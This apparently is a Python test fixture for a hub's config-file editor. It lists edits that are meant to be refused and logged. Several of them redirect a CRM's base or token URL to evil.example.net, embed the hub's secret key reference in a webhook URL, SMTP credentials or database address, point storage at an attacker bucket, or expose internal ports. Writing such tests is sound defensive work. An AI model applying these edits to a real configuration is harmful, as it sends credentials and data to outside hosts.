"""A hub whose CRM has a key and addresses, and what is tried with it in the editor of config.yaml."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from config_on_disk import PLUGINS
from fake_connectors import FakeCrm
from flow_strategies import OFFICE_TEXT
from page_client import PageClient
from pydantic import SecretStr
from testbed import TestHub

from hub.api import Connector, PluginSettings
from hub.model import AuditEntry
from hub.reload import ConfigFile

OLD, EVIL = "https://crm.example.com", "https://evil.example.net"
KEY = "${env:HUB_KEY}"
"""The variable of the hub's own key."""


class Login(PluginSettings):
    """A section with an address of its own."""

    token_url: str = "https://login.example.com/token"
    client_secret: SecretStr | None = None


class CrmSettings(PluginSettings):
    """A CRM with a key and an address."""

    token: SecretStr
    base_url: str = OLD
    login: Login = Login()
    pipeline: str = "sales"


class KeyedCrm(FakeCrm):
    """A CRM that is called with a key."""

    Settings = CrmSettings


class OtherCrm(KeyedCrm):
    """Another vendor's plugin with the same settings."""

    manifest = FakeCrm.manifest.model_copy(update={"name": "other_crm"})


KEYED: Mapping[str, type[Connector]] = {**PLUGINS, "crm": KeyedCrm, "other": OtherCrm}
CRM_LINES = """\
  crm:
    plugin: {crm}
    token: ${{env:CRM_KEY}}
    login:
      client_secret: ${{env:CRM_KEY}}
"""
TEXT = OFFICE_TEXT.replace("  crm:\n    plugin: {crm}\n", CRM_LINES).replace(
    '  secret_keys: ["${{env:HUB_KEY}}"]',
    '  secret_keys: ["${{env:HUB_KEY}}"]\n  browser_references: ["env:LISTED_KEY"]',
)


def file_of(stage: TestHub) -> ConfigFile:
    assert stage.config_file is not None
    return stage.config_file


def tried(stage: TestHub) -> list[str]:
    """What the audit log has of refused changes."""
    return [row.detail for row in stage.rows(AuditEntry, action="config.refuse")]


def edited(stage: TestHub, old: str, new: str) -> str:
    text = file_of(stage).read().text
    assert old in text
    return text.replace(old, new)


def apply(browser: PageClient, text: str, **typed: str) -> Any:
    """Press Apply in the editor."""
    base = file_of(browser.stage).read().sha
    return browser.post("/config", {"deed": "apply", "text": text, "base": base, **typed})


# What is tried in the editor, which can write anything that the file can hold.

EDITS: Mapping[str, tuple[str, str]] = {
    "base URL": ("    plugin: paper_crm\n", f"    plugin: paper_crm\n    base_url: {EVIL}\n"),
    "address in a nested section": ("    login:\n", f"    login:\n      token_url: {EVIL}/token\n"),
    "another plugin": ("    plugin: paper_crm\n", "    plugin: other_crm\n"),
    "stand-in": ("    plugin: paper_crm\n", "    plugin: paper_crm\n    sandbox: true\n"),
    "renamed": ("  crm:\n    plugin", f"  crm2:\n    base_url: {EVIL}\n    plugin"),
    "second connector": (
        "  index:\n", f"  copy: {{plugin: paper_crm, base_url: '{EVIL}', token: '${{env:CRM_KEY}}'}}\n  index:\n"
    ),
    "key of the hub": ("    token: ${env:CRM_KEY}", f"    token: {KEY}"),
    "stored secret": ("    token: ${env:CRM_KEY}", "    token: ${secret:network.token}"),
    "file": ("    token: ${env:CRM_KEY}", "    token: ${file:config.yaml}"),
    "key file": ("    token: ${env:CRM_KEY}", "    token: ${file:secret.key}"),
    "variable that is not set": ("    token: ${env:CRM_KEY}", "    token: ${env:NOT_THERE}"),
    "in an address": ("    plugin: paper_crm\n", f"    plugin: paper_crm\n    base_url: https://x.example.com/{KEY}\n"),
    "around a reference": ("    token: ${env:CRM_KEY}", "    token: x${env:CRM_KEY}"),
    "title": ("title: Lakeside\n", f'title: "{KEY}"\n'),
    "time zone, which problems would quote": ("        region: IL\n", f'        region: IL\n        time_zone: "{KEY}"\n'),
    "own list": ('browser_references: ["env:LISTED_KEY"]', 'browser_references: ["env:LISTED_KEY", "env:CRM_KEY"]'),
    "database elsewhere": ("  database: ", f"  private_hosts: ['*']\n  database: postgresql+psycopg://u:{KEY}@127.0.0.1:9/x #"),
    "private hosts": ("hub:\n", "hub:\n  private_hosts: ['*']\n"),
    "operation port": ("hub:\n", "hub:\n  operation_listen: 0.0.0.0:9080\n"),
    "mail server": (
        "conversions:\n", f"mail: {{smtp: 'smtp://u:{KEY}@evil.example.net', from: a@example.com}}\nconversions:\n"
    ),
    "storage": ("storage: memory://recordings", "storage: s3://evil/recordings"),
    "webhook with a reference": (
        "        region: IL\n",
        f"        region: IL\n        webhooks: [{{name: x, use: sales, url: '{EVIL}/{KEY}'}}]\n",
    ),
}  # fmt: skip
